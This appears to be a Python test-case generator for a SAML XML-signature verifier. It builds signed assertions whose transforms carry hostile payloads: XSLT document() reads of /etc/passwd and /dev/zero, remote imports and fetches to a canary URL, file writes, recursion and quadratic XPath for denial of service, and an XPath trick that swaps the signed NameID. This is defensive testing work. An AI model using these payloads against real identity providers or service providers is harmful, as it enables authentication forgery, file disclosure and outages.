"""Row S12: transforms that make a signature say something else, or run a program.

Each is signed genuinely by the IdP's key over what the transform would output, so that a verifier which runs
it finds everything in order; and each is shown with a garbage signature, so that one which runs transforms
before it looks at the value is caught by the canary or by the clock.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from ..case import EVIL, HONEST, REFUSED, SIGNED_IDENTITY, Case, Kit
from ..edit import replace_once
from ..signing import ENVELOPED, EXC_C14N, canonical, parse, transform
from .wrapping import evil_message, saml

XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2"
XPOINTER = "http://www.w3.org/2001/04/xmldsig-more/xptr"
BASE64 = "http://www.w3.org/2000/09/xmldsig#base64"
XSL = "http://www.w3.org/1999/XSL/Transform"
GARBAGE = b"garbage" * 36


def stylesheet(body: str, method: str = "text") -> str:
    """A stylesheet whose root template has this body."""
    return (
        f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0"><xsl:output method="{method}"/>'
        f'<xsl:template match="/">{body}</xsl:template></xsl:stylesheet>'
    )


def xpath(expression: str) -> str:
    """An XPath transform."""
    inner = f'<ds:XPath xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">{expression}</ds:XPath>'
    return transform(XPATH, inner)


def filter2(operation: str, expression: str) -> str:
    """An XPath Filter 2.0 transform."""
    return transform(XPATH2, f'<f:XPath xmlns:f="{XPATH2}" Filter="{operation}">{expression}</f:XPath>')


def chained(middle: Callable[[Kit], str], output: bytes, last: str = "") -> Callable[[bool], Callable[[Kit], bytes]]:
    """Evil under enveloped + this transform, with the digest of its output."""

    def make(garbage: bool) -> Callable[[Kit], bytes]:
        def build(kit: Kit) -> bytes:
            chain = transform(ENVELOPED) + middle(kit) + last
            value = GARBAGE if garbage else None
            return kit.signed("assertion", evil_message(kit), transforms_xml=chain, digest_input=output, signature_value=value)

        return build

    return make


def name_id_left_out(garbage: bool) -> Callable[[Kit], bytes]:
    """XPath takes the NameID's text out of what is digested; then the text is changed."""

    def build(kit: Kit) -> bytes:
        message = kit.message()
        assertion = parse(message.xml().encode())[-1]
        assertion.find(f".//{saml('NameID')}").text = None
        chain = transform(ENVELOPED) + xpath("not(self::text()[parent::saml:NameID])") + transform(EXC_C14N)
        value = GARBAGE if garbage else None
        octets = kit.sign(message.xml(), message.assertion_id, transforms_xml=chain, digest_input=canonical(assertion), signature_value=value)
        return replace_once(octets, HONEST, EVIL)

    return build


def many(count: int, each: str) -> Callable[[bool], Callable[[Kit], bytes]]:
    """The same harmless transform over and over, genuinely."""

    def make(garbage: bool) -> Callable[[Kit], bytes]:
        def build(kit: Kit) -> bytes:
            chain = transform(ENVELOPED) + each * count
            return kit.signed("assertion", transforms_xml=chain, signature_value=GARBAGE if garbage else None)

        return build

    return make


LOOP = '<xsl:for-each select="//*"><xsl:for-each select="//*"><xsl:for-each select="//*">x</xsl:for-each></xsl:for-each></xsl:for-each>'
DOCUMENT = "<xsl:value-of select=\"document('{}')\"/>"
Maker = Callable[[bool], Callable[[Kit], bytes]]
MAKERS: dict[str, Maker] = {
    "xslt-constant": chained(lambda k: transform(XSLT, stylesheet("constant")), b"constant"),
    "xslt-constant-xml": chained(lambda k: transform(XSLT, stylesheet("<x/>", "xml")), b"<x></x>", transform(EXC_C14N)),
    "xslt-document-http": chained(lambda k: transform(XSLT, stylesheet(DOCUMENT.format(k.world.canary + "/xslt"))), b""),
    "xslt-document-file": chained(lambda k: transform(XSLT, stylesheet(DOCUMENT.format("file:///etc/passwd"))), b""),
    "xslt-document-device": chained(lambda k: transform(XSLT, stylesheet(DOCUMENT.format("file:///dev/zero"))), b""),
    "xslt-import": chained(lambda k: transform(XSLT, stylesheet("x").replace("<xsl:output", f'<xsl:import href="{k.world.canary}/import"/><xsl:output')), b"x"),
    "xslt-loop": chained(lambda k: transform(XSLT, stylesheet(LOOP)), b""),
    "xslt-recursion": chained(lambda k: transform(XSLT, stylesheet('<xsl:call-template name="r"/>').replace("</xsl:stylesheet>", '<xsl:template name="r"><xsl:call-template name="r"/></xsl:template></xsl:stylesheet>')), b""),
    "xslt-output-file": chained(lambda k: transform(XSLT, stylesheet('<x:document xmlns:x="http://exslt.org/common" href="/tmp/corpus-must-not-exist">x</x:document>').replace('version="1.0"', 'version="1.1" extension-element-prefixes="x" xmlns:x="http://exslt.org/common"')), b""),
    "xpath-nothing": chained(lambda k: xpath("false()"), b"", transform(EXC_C14N)),
    "xpath-nothing-alone": chained(lambda k: xpath("false()"), b""),
    "xpath-quadratic": chained(lambda k: xpath("count(//*[count(//*)&gt;count(//*)])"), b"", transform(EXC_C14N)),
    "xpath-document": chained(lambda k: xpath(f"document('{k.world.canary}/xpath')"), b"", transform(EXC_C14N)),
    "xpath-name-id-left-out": name_id_left_out,
    "xpath2-subtract-all": chained(lambda k: filter2("subtract", "/"), b"", transform(EXC_C14N)),
    "xpath2-intersect": chained(lambda k: filter2("intersect", "//*[false()]"), b"", transform(EXC_C14N)),
    "xpath2-union": chained(lambda k: filter2("union", "/"), b"", transform(EXC_C14N)),
    "xpointer": chained(lambda k: transform(XPOINTER, f'<p:XPointer xmlns:p="{XPOINTER}" Registered="true">/</p:XPointer>'), b"", transform(EXC_C14N)),
    "base64": chained(lambda k: transform(BASE64), b""),
    "unknown": chained(lambda k: transform("urn:example:transform"), b""),
    "decryption": chained(lambda k: transform("http://www.w3.org/2002/07/decrypt#XML"), b""),
    "thousand-c14n": many(1000, transform(EXC_C14N)),
    "ten-enveloped": many(10, transform(ENVELOPED)),
    "hundred-xpath": many(100, xpath("true()")),
}


def order(chain: str) -> Callable[[Kit], bytes]:
    """An unusual, but genuinely signed, list of the two allowed transforms."""
    return lambda kit: kit.signed("assertion", transforms_xml=chain)


def cases() -> Iterator[Case]:
    """Every transform, genuinely and with garbage; then lists of the allowed ones."""
    number = 0
    for name, make in MAKERS.items():
        for garbage in (False, True):
            number += 1
            how = "garbage" if garbage else "genuine"
            yield Case(f"S12.{number:02}-{name}-{how}", f"transform {name}, {how} signature", REFUSED, make(garbage), fields={"within_seconds": 2})
    lists = {
        "none": ("", REFUSED),
        "only-enveloped": (transform(ENVELOPED), REFUSED),
        "only-exclusive": (transform(EXC_C14N), REFUSED),
        "reversed": (transform(EXC_C14N) + transform(ENVELOPED), SIGNED_IDENTITY),
        "prefix-list-empty": (transform(ENVELOPED) + transform(EXC_C14N, f'<ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList=""/>'), SIGNED_IDENTITY),
        "junk-in-transform": (transform(ENVELOPED, "<x/>") + transform(EXC_C14N), REFUSED),
        "xpath-in-enveloped": (transform(ENVELOPED, "<ds:XPath>false()</ds:XPath>") + transform(EXC_C14N), REFUSED),
        "two-prefix-lists": (transform(ENVELOPED) + transform(EXC_C14N, f'<ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="saml"/>' * 2), REFUSED),
    }
    for name, (chain, expect) in lists.items():
        number += 1
        yield Case(f"S12.{number:02}-list-{name}", f"the allowed transforms: {name}", expect, order(chain))
